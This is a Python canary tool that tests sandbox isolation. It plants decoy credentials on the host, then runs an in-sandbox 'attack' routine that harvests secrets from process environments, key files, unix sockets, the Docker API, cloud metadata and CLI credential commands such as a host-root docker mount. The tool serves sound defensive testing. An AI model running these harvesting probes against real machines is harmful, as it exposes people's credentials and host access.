"""Canaries for any sandbox: plant credentials, attack from inside, and see whether one came out.

On the host, `canary.py try -- COMMAND...` plants credentials with known random values in a new
home, in variables, behind sockets and on loopback, runs COMMAND, and searches what it printed.
COMMAND starts a sandbox, and in it `canary.py attack`. The image airlock-canary does that by
itself, and any image with Python by `python3 - attack`: this file is on COMMAND's standard input.

It needs Python 3.9 or newer, and nothing of Airlock.
"""

from __future__ import annotations

import argparse
import base64
import json
import os
import secrets
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
import threading
from collections.abc import Iterator, Mapping, Sequence
from contextlib import suppress
from pathlib import Path

_MARK = "CANARY"
_TIMEOUT_S = 600
_MAX = 65536
_SKIPPED = {"//proc", "//sys", "//usr", "/proc", "/sys", "/usr"}
_KEY = ".ssh/id_ed25519"
_FILES = {
    ".aws/credentials": "[default]\naws_access_key_id = AKIA0\naws_secret_access_key = {word}\n",
    ".git-credentials": "https://me:{word}@github.com\n",
    ".netrc": "machine api.example.com login me password {word}\n",
    ".npmrc": "//registry.npmjs.org/:_authToken={word}\n",
    ".pypirc": "[pypi]\nusername = __token__\npassword = {word}\n",
    ".docker/config.json": '{{"auths": {{"ghcr.io": {{"auth": "{coded}"}}}}}}\n',
    ".config/gh/hosts.yml": "github.com:\n    oauth_token: {word}\n",
    ".kube/config": "users:\n- name: me\n  user:\n    token: {word}\n",
    ".terraform.d/credentials.tfrc.json": '{{"credentials": {{"x": {{"token": "{word}"}}}}}}\n',
    ".config/gcloud/application_default_credentials.json": '{{"refresh_token": "{word}"}}\n',
    ".claude/.credentials.json": '{{"claudeAiOauth": {{"accessToken": "{word}"}}}}\n',
    ".codex/auth.json": '{{"OPENAI_API_KEY": "{word}"}}\n',
}
_VARIABLES = (
    *("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "ANTHROPIC_API_KEY", "OPENAI_API_KEY", "NPM_TOKEN"),
)
_SOCKETS = {"SSH_AUTH_SOCK": "run/agent.sock", "DOCKER_HOST": "run/docker.sock"}
# What a container would like the host's shells and sshd to read later.
_WISHES = (".bashrc", ".profile", ".ssh/authorized_keys", ".config/fish/config.fish")
_TOOLS = (
    ("git credential fill", "protocol=https\nhost=github.com\n\n"),
    ("git config --list --show-origin", ""),
    ("git ls-remote ext::'cat /proc/self/environ'", ""),
    ("ssh -G -v canary", ""),
    ("ssh-add -L", ""),
    ("ssh -F /dev/null -i ~/.ssh/id_ed25519 -o ProxyCommand='env >&2' canary true", ""),
    ("aws configure export-credentials", ""),
    ("aws --debug sts get-caller-identity", ""),
    ("gh auth token", ""),
    ("npm config list --json", ""),
    ("gcloud auth print-access-token", ""),
    ("kubectl config view --raw", ""),
    ("terraform console", 'file("~/.aws/credentials")\n'),
    ("docker run --rm -v /:/host busybox cat /host/root/.ssh/id_ed25519", ""),
    ("docker config ls", ""),
)


class Unusable(Exception):
    """Why the attack could not be carried out, which is no verdict."""


# On the host.


def plant(home: Path) -> dict[str, str]:
    """Write the files; returns the words by what has them. A key that is there is a canary."""
    words = {name: f"{_MARK}{secrets.token_hex(16)}" for name in _FILES}
    for name, text in _FILES.items():
        file = home / name
        file.parent.mkdir(parents=True, exist_ok=True)
        if file.exists():
            raise Unusable(f"{file} exists already: choose a home without credentials")
        coded = base64.b64encode(f"me:{words[name]}".encode()).decode()
        file.write_text(text.format(word=words[name], coded=coded))
        file.chmod(0o600)
    key = home / _KEY
    key.parent.mkdir(mode=0o700, exist_ok=True)
    if not key.exists() and shutil.which("ssh-keygen"):
        make = ["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "canary", "-f", str(key)]
        subprocess.run(make, check=True)
    elif not key.exists():
        body = base64.b64encode(secrets.token_bytes(150)).decode()
        key.write_text(f"-----BEGIN OPENSSH PRIVATE KEY-----\n{body}\n-----END\n")
    # Its longest line, of which the last has the private half.
    words[_KEY] = max(reversed(key.read_text().splitlines()[1:-1]), key=len)
    return words


class Servers:
    """Sockets of the home and a port of loopback that answer with a word each."""

    def __init__(self, home: Path, words: dict[str, str]) -> None:
        self._open: list[socket.socket] = []
        for name, path in _SOCKETS.items():
            (home / path).parent.mkdir(exist_ok=True)
            server = socket.socket(socket.AF_UNIX)
            server.bind(str(home / path))
            self._serve(server, words, f"a unix socket, {name}")
        self._serve(socket.create_server(("127.0.0.1", 0)), words, "a port of the host's loopback")
        abstract = socket.socket(socket.AF_UNIX)
        abstract.bind(f"\0{_MARK.lower()}-{os.getpid()}")
        self._serve(abstract, words, "an abstract socket")

    def close(self) -> None:
        """End them."""
        for server in self._open:
            server.close()

    def _serve(self, server: socket.socket, words: dict[str, str], name: str) -> None:
        words[name] = f"{_MARK}{secrets.token_hex(16)}"
        server.listen(16)
        self._open.append(server)
        word = words[name].encode()
        threading.Thread(target=self._answer, args=(server, word), daemon=True).start()

    @staticmethod
    def _answer(server: socket.socket, word: bytes) -> None:
        while True:
            try:
                connection, _ = server.accept()
            except OSError:
                return
            with connection, suppress(OSError):
                connection.sendall(b"HTTP/1.0 200 OK\r\n\r\n" + word)
                # Whoever is still talking would find the connection broken, and not read on.
                connection.shutdown(socket.SHUT_WR)
                connection.settimeout(5)
                while connection.recv(4096):
                    pass


def try_sandbox(command: Sequence[str], home: Path) -> int:
    """Plant everything, run the command, and judge what it printed; returns the exit status."""
    words = plant(home)
    servers = Servers(home, words)
    variables = {name: f"{_MARK}{secrets.token_hex(16)}" for name in _VARIABLES}
    words.update((f"${name}", word) for name, word in variables.items())
    before = look(home)
    environment = {**os.environ, **variables, "HOME": str(home)}
    environment["SSH_AUTH_SOCK"] = str(home / _SOCKETS["SSH_AUTH_SOCK"])
    try:
        done = subprocess.run(
            [word.replace("{home}", str(home)) for word in command],
            input=Path(__file__).read_bytes(),
            stdout=subprocess.PIPE,
            env=environment,
            timeout=_TIMEOUT_S,
            check=False,
        )
    except subprocess.TimeoutExpired:
        raise Unusable(f"the command did not end within {_TIMEOUT_S} seconds") from None
    except OSError as error:
        raise Unusable(f"{command[0]} cannot be run: {error.strerror}") from None
    finally:
        servers.close()
    changed = [name for name, content in look(home).items() if before.get(name) != content]
    return judge(words, done.stdout, changed)


def look(home: Path) -> dict[str, bytes | None]:
    """What files of a home have that a sandbox may not change, None for those not there."""
    return {
        name: (home / name).read_bytes() if (home / name).is_file() else None
        for name in (*_FILES, _KEY, *_WISHES)
    }


def judge(words: Mapping[str, str], said: bytes, changed: Sequence[str]) -> int:
    """Say what came out and what was changed: 0 for nothing, 1 for anything, 2 for no attack."""
    seen: dict[str, str] = {}
    ended = False
    for line in said.splitlines():
        try:
            row = json.loads(line)
            probe, what, data = row["probe"], row["what"], base64.b64decode(row["data"])
        except (ValueError, KeyError, TypeError):
            probe, what, data = "output", "standard output", line
        ended |= probe == "end"
        for name, word in words.items():
            if any(form in data for form in forms(word.encode())):
                seen.setdefault(name, f"by {probe}: {what}")
    for name, how in seen.items():
        print(f"canary: CAME OUT: {name}, {how}")
    for name in changed:
        print(f"canary: CHANGED on the host: ~/{name}")
    if not ended:
        print("canary: the attack did not run to its end, so this says nothing: see its errors")
        return 2
    print(f"canary: {len(words)} planted, {len(seen)} came out, {len(changed)} files changed")
    return 1 if seen or changed else 0


def forms(word: bytes) -> Iterator[bytes]:
    """The word, and ways of writing it that a filter may not know."""
    yield word
    yield word[::-1]
    yield word.hex().encode()
    # By where it begins in what is encoded, without what depends on its neighbours.
    for before in range(3):
        coded = base64.b64encode(b"x" * before + word)
        yield coded[4 if before else 0 : -4]


# In the sandbox.


def attack() -> int:
    """Look for everything that is in reach, and print what looks like a credential."""
    failed = False
    tell("variables", "environment", "\n".join(f"{k}={v}" for k, v in os.environ.items()).encode())
    for probe in (read_processes, read_files, ask_sockets, ask_ports, run_tools, write_wishes):
        try:
            probe()
        except Exception as error:  # noqa: BLE001 - goes on, whatever a sandbox does to it
            print(f"canary: {probe.__name__}: {error!r}", file=sys.stderr)
            failed = True
    if not failed:
        tell("end", "", b"")
    return int(failed)


def tell(probe: str, what: str, data: bytes) -> None:
    """Print what was found as a line."""
    coded = base64.b64encode(data[:_MAX]).decode()
    print(json.dumps({"probe": probe, "what": what, "data": coded}), flush=True)


def list_processes() -> list[str]:
    """The ids of every process in sight; none where there is no /proc."""
    try:
        return [*filter(str.isdigit, os.listdir("/proc"))]
    except OSError:
        return []


def read_lines(path: str) -> list[str]:
    """The lines of a table of the kernel behind its head; none where it is not in sight."""
    try:
        return Path(path).read_text(errors="surrogateescape").splitlines()[1:]
    except OSError:
        return []


def read_processes() -> None:
    """Variables and arguments of every process in sight."""
    for pid in list_processes():
        for name in ("environ", "cmdline"):
            path = f"/proc/{pid}/{name}"
            with suppress(OSError):
                tell("processes", path, Path(path).read_bytes())


def walk() -> Iterator[str]:
    """Every file in sight that is not the system's own, also by the roots of other processes."""
    tops = ["/", *(f"/proc/{pid}/root" for pid in list_processes())]
    mine = os.stat("/")
    for top in tops:
        try:
            other = os.stat(top)
        except OSError:
            continue
        if top != "/" and (other.st_dev, other.st_ino) == (mine.st_dev, mine.st_ino):
            continue
        for above, folders, names in os.walk(top):
            folders[:] = [each for each in folders if f"{above}/{each}" not in _SKIPPED]
            for name in names:
                yield os.path.join(above, name)


def read_files() -> None:
    """Files that have the mark or a private key, and the usual ones wherever a home is."""
    usual = (*_FILES, _KEY)
    for path in walk():
        try:
            status = os.lstat(path)
            if not stat.S_ISREG(status.st_mode) or status.st_size > 1 << 20:
                continue
            data = Path(path).read_bytes()
        except OSError:
            continue
        if _MARK.encode() in data or b"PRIVATE KEY" in data or path.endswith(usual):
            tell("files", path, data)


def ask_sockets() -> None:
    """Every unix socket in sight, at a path or abstract, and those that variables name."""
    found = [path for path in walk() if is_socket(path)]
    found += [os.environ.get(name, "").replace("unix://", "") for name in _SOCKETS]
    for line in read_lines("/proc/net/unix"):
        found += [each.replace("@", "\0", 1) for each in line.split()[7:8]]
    for path in dict.fromkeys(filter(None, found)):
        ask(socket.AF_UNIX, path, "sockets")


def is_socket(path: str) -> bool:
    """Whether a unix socket is there."""
    try:
        return stat.S_ISSOCK(os.stat(path).st_mode)
    except OSError:
        return False


def ask_ports() -> None:
    """Ports that listen on this loopback, which may be the host's, and the metadata of clouds."""
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in read_lines(f"/proc/net/{table}"):
            address, state = line.split()[1], line.split()[3]
            if state == "0A":
                ports.add(int(address.rpartition(":")[2], 16))
    for port in ports:
        ask(socket.AF_INET, ("127.0.0.1", port), "ports")
    ask(socket.AF_INET, ("169.254.169.254", 80), "ports")


def ask(family: int, address: object, probe: str) -> None:
    """Connect, say something that many servers answer, and tell what comes back."""
    data = b""
    with suppress(OSError), socket.socket(family) as made:
        made.settimeout(2)
        made.connect(address)  # type: ignore[arg-type]  # of its family
        made.sendall(b"GET /containers/json HTTP/1.0\r\n\r\n")
        while len(data) < _MAX and (more := made.recv(4096)):
            data += more
    if data:
        tell(probe, str(address).replace("\0", "@"), data)


def run_tools() -> None:
    """Commands that print a credential where the host's tool answers them."""
    for line, says in _TOOLS:
        if shutil.which(line.split()[0]) is None:
            continue
        try:
            done = subprocess.run(
                ["sh", "-c", line],
                input=says.encode(),
                stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT,
                timeout=20,
                check=False,
            )
        except subprocess.TimeoutExpired as error:
            tell("tools", line, error.stdout or b"")
            continue
        except OSError as error:
            print(f"canary: {line}: {error!r}", file=sys.stderr)
            continue
        tell("tools", line, done.stdout)


def write_wishes() -> None:
    """Append to what a shell or sshd of the host would read, in every home in sight."""
    homes = {os.path.dirname(os.path.dirname(path)) for path in walk() if path.endswith(_KEY)}
    for home in homes:
        for name in _WISHES:
            with suppress(OSError), open(os.path.join(home, name), "a") as file:
                file.write("# a canary was here\n")


def main() -> int:
    """Do what the command line says."""
    parser = argparse.ArgumentParser(prog="canary.py", description=__doc__.partition("\n")[0])
    commands = parser.add_subparsers(dest="what", required=True)
    commands.add_parser("attack", help="in the sandbox: print every credential in reach")
    trying = commands.add_parser("try", help="on the host: plant, run COMMAND, judge")
    trying.add_argument("--home", type=Path, help="a directory without credentials (a new one)")
    trying.add_argument("command", nargs="+", metavar="COMMAND", help="{home} in it is the home")
    options = parser.parse_args()
    if options.what == "attack":
        return attack()
    home: Path | None = options.home
    try:
        if home is not None:
            home.mkdir(exist_ok=True)
            return try_sandbox(options.command, home.resolve())
        with tempfile.TemporaryDirectory(prefix="canary-") as folder:
            return try_sandbox(options.command, Path(folder).resolve())
    except Unusable as why:
        print(f"canary: {why}")
        return 2


if __name__ == "__main__":
    sys.exit(main())
